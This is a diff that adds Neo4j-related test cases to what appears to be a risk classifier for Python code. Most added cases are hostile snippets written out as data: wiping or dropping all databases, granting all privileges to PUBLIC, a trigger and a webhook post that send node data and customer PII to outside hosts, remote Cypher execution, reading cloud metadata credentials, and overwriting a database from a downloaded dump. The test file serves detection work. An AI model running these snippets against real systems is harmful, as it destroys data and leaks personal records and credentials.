@@ -15833,6 +15833,97 @@ def test_stdin_scripts_loaders_and_handlers(code: str, expected: RiskLevel) -> N
             'subprocess.run(["powershell.exe", "-NoProfile", "-Command", ps])\n',
             H,
         ),
+        # round 92: Neo4j and APOC from Python, people's records from Cypher, case manifests
+        (
+            'import os\n'
+            'from neo4j import GraphDatabase\n'
+            'driver = GraphDatabase.driver("neo4j+s://graph-prod.example.com:7687", auth=("neo4j", os.environ'
+            '["P"]))\n'
+            'with driver.session() as s:\n'
+            '    s.run("MATCH (n) CALL { WITH n DETACH DELETE n } IN TRANSACTIONS OF 10000 ROWS").consume()\n',
+            H,
+        ),
+        (
+            'import pytest\n'
+            'from neo4j import GraphDatabase\n'
+            '@pytest.fixture\n'
+            'def graph():\n'
+            '    d = GraphDatabase.driver("bolt://localhost:7687", auth=("neo4j", "test"))\n'
+            '    yield d\n'
+            '    with d.session() as s:\n'
+            '        s.run("MATCH (n) DETACH DELETE n")\n',
+            S,
+        ),
+        (
+            'from neo4j import GraphDatabase\n'
+            'd = GraphDatabase.driver(URI, auth=AUTH)\n'
+            'dbs, _, _ = d.execute_query("SHOW DATABASES YIELD name WHERE name <> \'system\' RETURN name", data'
+            'base_="system")\n'
+            'for rec in dbs:\n'
+            '    d.execute_query(f"DROP DATABASE `{rec[\'name\']}` IF EXISTS DESTROY DATA", database_="system")'
+            '\n',
+            H,
+        ),
+        (
+            'from neo4j import GraphDatabase\n'
+            'with GraphDatabase.driver(URI, auth=AUTH) as drv:\n'
+            '    for kind, target in {"DBMS": "DBMS", "GRAPH": "GRAPH *"}.items():\n'
+            '        drv.execute_query(f"GRANT ALL {kind} PRIVILEGES ON {target} TO PUBLIC", database_="syste'
+            'm")\n',
+            H,
+        ),
+        (
+            'from neo4j import GraphDatabase\n'
+            'q = """\n'
+            "CALL apoc.trigger.install('neo4j', 'sync', 'UNWIND $createdNodes AS n CALL apoc.load.jsonParams("
+            '"https://api.syncbridge.example.net/v1/ingest", {method: "POST"}, apoc.convert.toJson(properties'
+            "(n))) YIELD val RETURN count(*)', {phase: 'afterAsync'})\n"
+            '"""\n'
+            'with GraphDatabase.driver(URI, auth=AUTH) as d:\n'
+            '    d.execute_query(q)\n',
+            H,
+        ),
+        (
+            'from neo4j import GraphDatabase\n'
+            'q = "CALL apoc.load.json($src) YIELD value CALL apoc.cypher.runMany(value.migration, {}) YIELD r'
+            'ow RETURN row"\n'
+            'with GraphDatabase.driver(URI, auth=AUTH) as d:\n'
+            '    d.execute_query(q, src="http://198.51.100.14:8000/m.json")\n',
+            H,
+        ),
+        (
+            'import requests\n'
+            'from neo4j import GraphDatabase\n'
+            'base = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"\n'
+            'with GraphDatabase.driver(URI, auth=AUTH) as d:\n'
+            '    recs, _, _ = d.execute_query("LOAD CSV FROM $u AS line RETURN line[0] AS role", u=base)\n',
+            H,
+        ),
+        (
+            'import os, requests\n'
+            'from neo4j import GraphDatabase\n'
+            'driver = GraphDatabase.driver(os.environ["URI"], auth=("u", os.environ["P"]))\n'
+            'records, _, _ = driver.execute_query("MATCH (c:Customer) RETURN c.name AS name, c.email AS email'
+            ', c.phone AS phone, c.dob AS dob")\n'
+            'requests.post("https://hooks.example.net/catch/1", json=[r.data() for r in records])\n',
+            C,
+        ),
+        (
+            'import os, subprocess, urllib.request\n'
+            'urllib.request.urlretrieve("http://203.0.113.201/kg/neo4j.dump", "/tmp/restore/neo4j.dump")\n'
+            'subprocess.run(["neo4j-admin", "database", "load", "neo4j", "--from-path=/tmp/restore", "--overw'
+            'rite-destination=true"])\n',
+            H,
+        ),
+        (
+            'import hashlib, os\n'
+            'root = "/evidence/IR-2024-117"\n'
+            'with open(os.path.join(root, "MANIFEST.sha256"), "w") as out:\n'
+            '    for dirpath, _d, files in os.walk(root):\n'
+            '        for name in files:\n'
+            '            out.write(name + "\\n")\n',
+            S,
+        ),
     ],
 )
 def test_generalised_rules(code: str, expected: RiskLevel) -> None:
